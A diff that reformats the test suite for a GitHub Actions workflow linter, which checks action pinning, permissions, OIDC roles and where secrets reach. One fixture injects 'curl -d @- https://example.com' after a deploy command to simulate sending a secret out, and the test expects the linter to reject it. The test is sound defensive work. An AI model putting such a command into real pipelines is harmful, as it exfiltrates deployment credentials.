@@ -214,7 +214,11 @@ jobs:
   });
 
   it.each([
-    ["an action pinned to a tag", compliant.replace(checkout, "actions/checkout@v6"), /actions\/checkout@v6 is not pinned to a full 40-character commit SHA/],
+    [
+      "an action pinned to a tag",
+      compliant.replace(checkout, "actions/checkout@v6"),
+      /actions\/checkout@v6 is not pinned to a full 40-character commit SHA/,
+    ],
     ["a short SHA", compliant.replace(checkout, "actions/checkout@de0fac2 # v6.0.2"), /not pinned to a full 40-character commit SHA/],
     ["a SHA without its version comment", compliant.replace(" # v6.0.2", ""), /actions\/checkout needs a "# vX.Y.Z" comment/],
     ["no top-level permissions", compliant.replace("permissions: {}\n", ""), /no top-level permissions/],
@@ -247,27 +251,42 @@ jobs:
     ],
     [
       "a secret given to npm ci",
-      compliant.replace("      - run: npm ci\n", "      - run: npm ci\n        env:\n          PULUMI_CONFIG_PASSPHRASE: ${{ secrets.PULUMI_CONFIG_PASSPHRASE }}\n"),
+      compliant.replace(
+        "      - run: npm ci\n",
+        "      - run: npm ci\n        env:\n          PULUMI_CONFIG_PASSPHRASE: ${{ secrets.PULUMI_CONFIG_PASSPHRASE }}\n",
+      ),
       /job deploy step \d+ receives secret PULUMI_CONFIG_PASSPHRASE, which it does not need/,
     ],
     [
       "a secret the step's command does not use",
-      compliant.replace("          AUTH0_CLIENT_SECRET:", "          SMOKE_TEST_PHONE: ${{ secrets.SMOKE_TEST_PHONE }}\n          AUTH0_CLIENT_SECRET:"),
+      compliant.replace(
+        "          AUTH0_CLIENT_SECRET:",
+        "          SMOKE_TEST_PHONE: ${{ secrets.SMOKE_TEST_PHONE }}\n          AUTH0_CLIENT_SECRET:",
+      ),
       /receives secret SMOKE_TEST_PHONE, which it does not need/,
     ],
     [
       "a secret behind a second command line",
-      compliant.replace("      - run: pulumi up --stack dev --yes\n", "      - run: |\n          pulumi up --stack dev --yes\n          curl -d @- https://example.com\n"),
+      compliant.replace(
+        "      - run: pulumi up --stack dev --yes\n",
+        "      - run: |\n          pulumi up --stack dev --yes\n          curl -d @- https://example.com\n",
+      ),
       /receives secret AUTH0_CLIENT_SECRET, which it does not need/,
     ],
     [
       "a secret handed to an action",
-      compliant.replace("          node-version: 20\n", "          node-version: 20\n          token: ${{ secrets.PULUMI_ACCESS_TOKEN }}\n"),
+      compliant.replace(
+        "          node-version: 20\n",
+        "          node-version: 20\n          token: ${{ secrets.PULUMI_ACCESS_TOKEN }}\n",
+      ),
       /hands secret PULUMI_ACCESS_TOKEN to actions\/setup-node/,
     ],
     [
       "a secret written into a script",
-      compliant.replace("run: pulumi up --stack dev --yes", "run: pulumi up --stack dev --yes --secrets-provider '${{ secrets.PULUMI_CONFIG_PASSPHRASE }}'"),
+      compliant.replace(
+        "run: pulumi up --stack dev --yes",
+        "run: pulumi up --stack dev --yes --secrets-provider '${{ secrets.PULUMI_CONFIG_PASSPHRASE }}'",
+      ),
       /writes secret PULUMI_CONFIG_PASSPHRASE into its script/,
     ],
   ])("rejects %s", (_what, broken, message) => {
@@ -300,7 +319,11 @@ jobs:
 
   it.each([
     ["the called workflow assumes no role", () => withoutRole, /job deploy grants id-token: write without assuming an AWS role by OIDC/],
-    ["the called workflow does not exist", () => undefined, /job deploy calls \.\/\.github\/workflows\/deploy-stack\.yml, which cannot be read/],
+    [
+      "the called workflow does not exist",
+      () => undefined,
+      /job deploy calls \.\/\.github\/workflows\/deploy-stack\.yml, which cannot be read/,
+    ],
   ])("rejects id-token: write when %s", (_what, reader: LocalWorkflowReader, message) => {
     expect(workflowRuleProblems("caller.yml", caller, reader).join("\n")).toMatch(message);
   });
@@ -313,13 +336,7 @@ describe("ci.yml", () => {
 
   it("installs exactly, tests, builds and plans dev and prod offline, in that order", () => {
     const runs = stepsOf("ci.yml", "test").flatMap((s) => (s.run === undefined ? [] : [s.run.trim()]));
-    expect(runs).toEqual([
-      "npm ci",
-      "npm test",
-      "npm run build",
-      "npm run plan -- --stack dev",
-      "npm run plan -- --stack prod",
-    ]);
+    expect(runs).toEqual(["npm ci", "npm test", "npm run build", "npm run plan -- --stack dev", "npm run plan -- --stack prod"]);
   });
 
   it("needs no cloud credentials: no secrets, no OIDC token", () => {
@@ -411,7 +428,8 @@ describe("deploy.yml and the deploy-stack.yml it calls", () => {
     });
     // Each receives the secret of the same name, from the environment's secrets.
     for (const s of stackSteps) {
-      for (const [name, value] of Object.entries(s.env ?? {})) if (value.includes("secrets.")) expect(value).toBe(`\${{ secrets.${name} }}`);
+      for (const [name, value] of Object.entries(s.env ?? {}))
+        if (value.includes("secrets.")) expect(value).toBe(`\${{ secrets.${name} }}`);
     }
   });
 
@@ -424,7 +442,9 @@ describe("deploy.yml and the deploy-stack.yml it calls", () => {
 
     it("runs for the stack after the AWS role is assumed and before pulumi preview and up, its report going to the run's summary", () => {
       const at = stackSteps.indexOf(doctor);
-      expect(at).toBeGreaterThan(stepIndex(stackSteps, (s) => s.uses?.startsWith("aws-actions/configure-aws-credentials@") === true, "role"));
+      expect(at).toBeGreaterThan(
+        stepIndex(stackSteps, (s) => s.uses?.startsWith("aws-actions/configure-aws-credentials@") === true, "role"),
+      );
       expect(at).toBeLessThan(stepIndex(stackSteps, (s) => /^pulumi preview/.test(s.run ?? ""), "preview"));
       expect(at).toBeLessThan(stepIndex(stackSteps, (s) => /^pulumi up/.test(s.run ?? ""), "up"));
       expect(doctor.run?.trim()).toBe('npm run --silent doctor -- --stack "$STACK" | tee -a "$GITHUB_STEP_SUMMARY"');
@@ -474,7 +494,11 @@ describe("deploy.yml and the deploy-stack.yml it calls", () => {
     async function smokeStepsThatRun(id: string, configured: string): Promise<string[]> {
       const context = { ...calledWith(id), steps: { smoke: { outputs: { configured } } } };
       const running: string[] = [];
-      for (const [what, candidate] of [["probe", probe], ["send", send], ["skipped", skipped]] as const) {
+      for (const [what, candidate] of [
+        ["probe", probe],
+        ["send", send],
+        ["skipped", skipped],
+      ] as const) {
         if (await conditionHolds(candidate.if ?? "true", context)) running.push(what);
       }
       return running;
@@ -502,7 +526,9 @@ describe("deploy.yml and the deploy-stack.yml it calls", () => {
       const environment = await interpolate(skipped.env?.DEPLOY_ENVIRONMENT ?? "", calledWith("staging"));
       const result = runStep(skipped.run ?? "", { GITHUB_STEP_SUMMARY: summary, DEPLOY_ENVIRONMENT: environment });
       expect(result.status).toBe(0);
-      expect(readFileSync(summary, "utf8")).toMatch(/Smoke send skipped[\s\S]*No SMOKE_TEST_PHONE secret is set in the staging environment/);
+      expect(readFileSync(summary, "utf8")).toMatch(
+        /Smoke send skipped[\s\S]*No SMOKE_TEST_PHONE secret is set in the staging environment/,
+      );
       expect(result.stdout).toMatch(/::notice title=Smoke send skipped::SMOKE_TEST_PHONE is not set in the staging environment/);
     });
 
@@ -541,7 +567,10 @@ describe("destroy.yml", () => {
   });
 
   it("gives the secrets only to the pulumi destroy step", () => {
-    expect(job("destroy.yml", "destroy").env).toEqual({ STACK: "${{ inputs.stack }}", PULUMI_BACKEND_URL: "${{ vars.PULUMI_BACKEND_URL }}" });
+    expect(job("destroy.yml", "destroy").env).toEqual({
+      STACK: "${{ inputs.stack }}",
+      PULUMI_BACKEND_URL: "${{ vars.PULUMI_BACKEND_URL }}",
+    });
     expect(secretsByStep(stepsOf("destroy.yml", "destroy"))).toEqual({ "pulumi destroy": [...AUTH0, ...PULUMI] });
     expect(secretsByStep(stepsOf("destroy.yml", "confirm"))).toEqual({});
   });
